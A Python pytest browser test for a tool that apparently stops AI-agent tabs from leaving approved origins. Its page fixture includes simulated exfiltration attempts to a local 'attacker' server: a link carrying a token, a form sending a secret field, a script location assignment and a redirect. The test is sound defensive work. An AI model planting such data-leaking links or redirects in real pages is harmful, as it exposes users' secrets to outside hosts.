@@ -1,0 +1,219 @@
+"""Stopped before it leaves (issue 13), in real Chromium through the real chain: a tab a session
+owns cannot take its top frame to an origin the person has not approved — a link, a form submit,
+a script's location assignment, a redirect from the approved site — and the attacker's server
+(a second local server) receives NO request at all; the action names the blocked origin and the
+tab stays usable on its page. page_follow follows a link by its ref (no address passes through
+the agent): same origin with no prompt, another approved origin through the gate; a ref that is
+not a link is wrong_element. A tab of the person's is never touched by the rules."""
+
+from __future__ import annotations
+
+import asyncio
+import http.server
+import os
+import threading
+import time
+from collections.abc import Iterator
+from typing import Any
+from urllib.parse import urlparse
+
+import pytest
+
+from tabwarden.browser import ThrowawayBrowser
+from tabwarden.demo import provision_throwaway_trust, serve_http, wait_for_extension
+from tests.browser.harness import chromium, confirm_page, mcp_client, ok, press, shows, widen
+from tests.fakes import tool_error
+
+pytestmark = pytest.mark.browser
+
+#: The attacker's server's request log (paths), shared with its handler.
+_SEEN: list[str] = []
+_SEEN_LOCK = threading.Lock()
+
+
+class _Attacker(http.server.BaseHTTPRequestHandler):
+    """Whatever reaches it is logged: the test asserts nothing did (the person's tab aside)."""
+
+    def do_GET(self) -> None:  # noqa: N802
+        with _SEEN_LOCK:
+            _SEEN.append(self.path)
+        body = b"<!doctype html><title>attacker</title><p id=got>got it</p>"
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+        return
+
+
+def _site(evil: str, other: str) -> type[http.server.BaseHTTPRequestHandler]:
+    class Site(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802
+            path = urlparse(self.path).path
+            if path == "/redir":
+                self.send_response(302)
+                self.send_header("Location", f"{evil}/stolen?via=redirect")
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+                return
+            if path == "/next":
+                body = b"<!doctype html><title>next</title><p id=where>next page</p>"
+            else:
+                body = (
+                    "<!doctype html><html><head><title>start</title></head><body>"
+                    "<p id=where>start page</p>"
+                    f"<a id=away href='{evil}/collect?token=s3cret'>Away</a>"
+                    "<a id=same href='/next?from=follow'>Same</a>"
+                    f"<a id=other href='{other}/next?from=other'>Other</a>"
+                    "<a id=bounce href='/redir'>Bounce</a>"
+                    "<a id=js href='javascript:void 0'>Script link</a>"
+                    "<button type=button id=plain>Plain</button>"
+                    f"<button type=button id=assign onclick=\"location.href='{evil}/assigned'\">"
+                    "Assign</button>"
+                    f"<form id=f action='{evil}/form' method=get><input name=q value=secret>"
+                    "<button id=send>Send</button></form>"
+                    "</body></html>"
+                ).encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+            return
+
+    return Site
+
+
+@pytest.fixture
+def attacker() -> Iterator[str]:
+    """The unapproved site: its own server, reached as http://localhost:PORT."""
+    with _SEEN_LOCK:
+        _SEEN.clear()
+    with serve_http(_Attacker) as origin:
+        yield f"http://localhost:{origin.rsplit(':', 1)[1]}"
+
+
+def seen() -> list[str]:
+    with _SEEN_LOCK:
+        return list(_SEEN)
+
+
+async def where(agent: Any, tab: int) -> str:
+    return str((await ok(agent, "page_get_state", {"tabId": tab, "selector": "#where"}))["text"])
+
+
+async def ref_of(agent: Any, tab: int, name: str) -> str:
+    found = await ok(agent, "page_find", {"tabId": tab, "name": name, "exact": True})
+    assert found["matches"], found
+    return str(found["matches"][0]["ref"])
+
+
+def test_an_agent_tab_is_stopped_before_it_leaves_and_follows_links_by_ref(
+    browser: ThrowawayBrowser, attacker: str
+) -> None:
+    # The real site (127.0.0.1:P) and a second approved origin on the same server (localhost:P).
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Attacker)
+    port = server.server_address[1]
+    a, other = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
+    server.RequestHandlerClass = _site(attacker, other)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    provision_throwaway_trust(
+        browser.root / "config", client_exe=os.path.realpath("/proc/self/exe"), origins=[a, other]
+    )
+    widen(browser, confirm=[])  # link and submit clicks without the window: the stop is the guard
+
+    async def scenario() -> None:
+        async with chromium(browser) as context, mcp_client(browser) as agent:
+            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
+            tab = (await ok(agent, "tab_open", {"url": f"{a}/"}))["tab"]["id"]
+
+            # A link to the unapproved site: stopped, named, the tab still on its page.
+            away = await ok(agent, "page_click", {"tabId": tab, "selector": "#away"})
+            assert away["blocked"] == attacker and away["url"] == f"{a}/", away
+            assert await where(agent, tab) == "start page"
+
+            # A form submit to it (the field's value would have gone in the query).
+            sent = await ok(agent, "page_click", {"tabId": tab, "selector": "#send"})
+            assert sent["blocked"] == attacker, sent
+            assert await where(agent, tab) == "start page"
+
+            # A page script assigning location.
+            assigned = await ok(agent, "page_click", {"tabId": tab, "selector": "#assign"})
+            assert assigned["blocked"] == attacker, assigned
+            assert await where(agent, tab) == "start page"
+
+            # A redirect from the approved site: the hop to the attacker is stopped too.
+            bounced = await ok(agent, "page_click", {"tabId": tab, "selector": "#bounce"})
+            assert bounced["blocked"] == attacker, bounced
+            assert await where(agent, tab) == "start page"
+            redirected = tool_error(
+                await agent.call_tool("page_navigate", {"tabId": tab, "url": f"{a}/redir"})
+            )
+            assert redirected is not None and redirected["code"] == "origin_not_approved"
+            assert attacker in redirected["message"], redirected
+            assert await where(agent, tab) == "start page"
+
+            # Nothing of any of it reached the attacker's server.
+            assert seen() == [], seen()
+
+            # page_follow, same origin: by ref, no prompt, lands.
+            followed = await ok(
+                agent, "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, "Same")}
+            )
+            assert followed["url"] == f"{a}/next?from=follow" and "blocked" not in followed
+            assert await where(agent, tab) == "next page"
+            await ok(agent, "page_history", {"tabId": tab})
+
+            # page_follow to another approved origin: through the gate (approved: no prompt).
+            crossed = await ok(
+                agent, "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, "Other")}
+            )
+            assert crossed["url"] == f"{other}/next?from=other", crossed
+            await ok(agent, "page_history", {"tabId": tab})
+            assert await where(agent, tab) == "start page"
+
+            # Not links: wrong_element, and the tab does not move.
+            for name in ("Plain", "Script link"):
+                refused = tool_error(
+                    await agent.call_tool(
+                        "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, name)}
+                    )
+                )
+                assert refused is not None and refused["code"] == "wrong_element", (name, refused)
+            assert await where(agent, tab) == "start page"
+
+            # page_follow to the attacker: the same gate as page_navigate asks the person; a
+            # denial refuses, and still nothing was sent there.
+            following = asyncio.create_task(
+                agent.call_tool(
+                    "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, "Away")}
+                )
+            )
+            window = await confirm_page(context)
+            await shows(window, attacker)
+            await press(window, "#deny")
+            denied = tool_error(await following)
+            assert denied is not None and denied["code"] == "origin_not_approved", denied
+            assert await where(agent, tab) == "start page"
+            assert seen() == [], seen()
+
+            # The person's own tab (no session): the rules never touch it.
+            mine = await context.new_page()
+            await mine.goto(f"{a}/")
+            await mine.click("#away")
+            deadline = time.monotonic() + 30
+            while not any(p.startswith("/collect?token=") for p in seen()):
+                assert time.monotonic() < deadline, seen()
+                await asyncio.sleep(0.05)
+            await mine.wait_for_selector("#got")
+
+    try:
+        asyncio.run(scenario())
+    finally:
+        server.shutdown()
+        server.server_close()
